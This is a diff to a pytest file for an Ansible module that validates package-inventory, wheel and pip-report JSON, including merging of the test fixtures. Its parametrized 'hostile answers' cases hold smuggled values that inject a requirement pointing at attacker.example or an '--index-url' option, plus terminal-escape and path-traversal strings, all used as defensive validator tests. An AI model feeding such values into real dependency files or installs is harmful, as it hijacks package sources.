@@ -12,8 +12,7 @@ import pytest
 from ansible.module_utils.vllm_edge.inventory import image_answer
 
 PACKAGES = {"vllm": "0.32.0+cu130", "transformers": "5.16.0", "python-apt": "2.7.7+ubuntu5", "a": "1!2.0rc1.post2.dev3"}
-LISTED = {"packages": PACKAGES, "debian": [["libc6", "1:2.41-12~deb13u1", "amd64"]]}
-TESTS = {"failures": [], "versions": {"torch": "2.13.0", "transformers": "", "vllm": "0.32.0"}, "libraries": 3}
+IMAGE = {"packages": PACKAGES, "debian": [["libc6", "1:2.41-12~deb13u1", "amd64"]], "failures": [], "libraries": 3}
 WHEEL = "tokenizers-0.23.3-cp39-abi3-manylinux_2_17_x86_64.manylinux2014_x86_64.whl"
 
 
@@ -21,7 +20,7 @@ WHEEL = "tokenizers-0.23.3-cp39-abi3-manylinux_2_17_x86_64.manylinux2014_x86_64.
 def read(filters: dict[str, Callable[..., Any]]) -> Callable[[object, str], tuple[Any, str]]:
     """What a text, or an object as JSON, becomes, and why it is refused; never later than within 2 s."""
 
-    def ask(answer: object, kind: str = "packages") -> tuple[Any, str]:
+    def ask(answer: object, kind: str = "image") -> tuple[Any, str]:
         began = time.process_time()
         text = answer if isinstance(answer, str) else json.dumps(answer)
         found = filters["read_image_answer"](text, kind, "What r/image:1 says")
@@ -34,49 +33,38 @@ def read(filters: dict[str, Callable[..., Any]]) -> Callable[[object, str], tupl
 
 
 def test_what_the_scripts_print_is_accepted(read: Any) -> None:
-    assert read(LISTED) == (LISTED, "")
-    assert read(TESTS, "tests") == (TESTS, "")
+    assert read(IMAGE) == (IMAGE, "")
     assert read({}, "record") == ({}, "")
     # Texts of the tests cannot write to a terminal.
-    value, _ = read({**TESTS, "failures": ["gone\x1b[2J\nPLAY RECAP \u202e" + "x" * 1000]}, "tests")
+    value, _ = read({**IMAGE, "failures": ["gone\x1b[2J\nPLAY RECAP \u202e" + "x" * 1000]})
     assert value["failures"][0].isprintable() and len(value["failures"][0]) == 300
 
 
 def pack(name: str, version: object = "1.0") -> dict[str, Any]:
-    return {**LISTED, "packages": {**PACKAGES, name: version}}
+    return {**IMAGE, "packages": {**PACKAGES, name: version}}
 
 
 @pytest.mark.parametrize(
     ("kind", "answer", "why"),
     [
-        ("packages", pack("zz", "1\ntransformers @ https://attacker.example/x.tar.gz"), "the version of zz"),
-        ("packages", pack("zz", "\u0661.0"), "the version of zz"),
-        ("packages", pack("zz", "9" * 200), "the version of zz"),
-        ("packages", pack("zz", None), "the version of zz"),
-        ("packages", pack("zz\n--index-url=https://attacker.example"), "the name of a package"),
-        ("packages", pack("--index-url"), "the name of a package"),
-        ("packages", {"packages": {f"p{n}": "1" for n in range(20_001)}, "debian": []}, "more than 20000 packages"),
-        ("packages", {"packages": PACKAGES}, "not what list_packages.py prints"),
-        ("packages", [LISTED], "not what list_packages.py prints"),
-        ("packages", {**LISTED, "debian": [["libc6", "1 2", "amd64"]]}, "a word of a Debian package"),
-        ("packages", {**LISTED, "debian": [["libc6", "1"]]}, "not name, version and architecture"),
-        ("packages", json.dumps(LISTED) + "\nmore", "it is no JSON"),
-        ("packages", '{"packages": {}, "packages": {}}', "an object has a key twice"),
-        ("packages", "[" * 100_000, "nested deeper than 8 levels"),
-        ("packages", '"' + "3" * 4_194_304 + '"', "more than 4194304 characters"),
-        ("tests", {**TESTS, "versions": {**TESTS["versions"], "vllm": "1\nx"}}, "the version of vllm"),
-        ("tests", {**TESTS, "versions": {"vllm": "1"}}, "not what smoke_test.py prints"),
-        ("tests", {**TESTS, "libraries": "many"}, "not what smoke_test.py prints"),
+        ("image", pack("zz", "1\ntransformers @ https://attacker.example/x.tar.gz"), "the version of zz"),
+        ("image", pack("zz", None), "the version of zz"),
+        ("image", pack("zz\n--index-url=https://attacker.example"), "the name of a package"),
+        ("image", {**IMAGE, "packages": {f"p{n}": "1" for n in range(20_001)}}, "more than 20000 packages"),
+        ("image", {"packages": PACKAGES}, "not what read_image.py prints"),
+        ("image", [IMAGE], "not what read_image.py prints"),
+        ("image", {**IMAGE, "debian": [["libc6", "1 2", "amd64"]]}, "a word of a Debian package"),
+        ("image", {**IMAGE, "debian": [["libc6", "1"]]}, "not name, version and architecture"),
+        ("image", json.dumps(IMAGE) + "\nmore", "it is no JSON"),
+        ("image", '{"packages": {}, "packages": {}}', "an object has a key twice"),
+        ("image", "[" * 100_000, "nested deeper than 8 levels"),
+        ("image", '"' + "3" * 4_194_304 + '"', "more than 4194304 characters"),
+        ("image", {**IMAGE, "libraries": "many"}, "not what read_image.py prints"),
         ("record", ["x"], "no JSON object"),
         ("wheels", {"x.tar.gz": "a" * 64}, "the name of a wheel"),
         ("wheels", {WHEEL: "A" * 64}, "the hash of"),
-        ("wheels", {f"../{WHEEL}": "a" * 64}, "the name of a wheel"),
         ("wheels", {"a-1\n-py3-none-any.whl": "a" * 64}, "the name of a wheel"),
-        (
-            "pip report",
-            {"install": [{"download_info": {"url": "https://x/y.tar.gz", "vcs_info": {}}}]},
-            "not what `pip",
-        ),
+        ("pip report", {"install": [{"download_info": {"url": "https://x/y", "vcs_info": {}}}]}, "not what `pip"),
     ],
 )
 def test_hostile_answers_are_refused(read: Any, kind: str, answer: object, why: str) -> None:
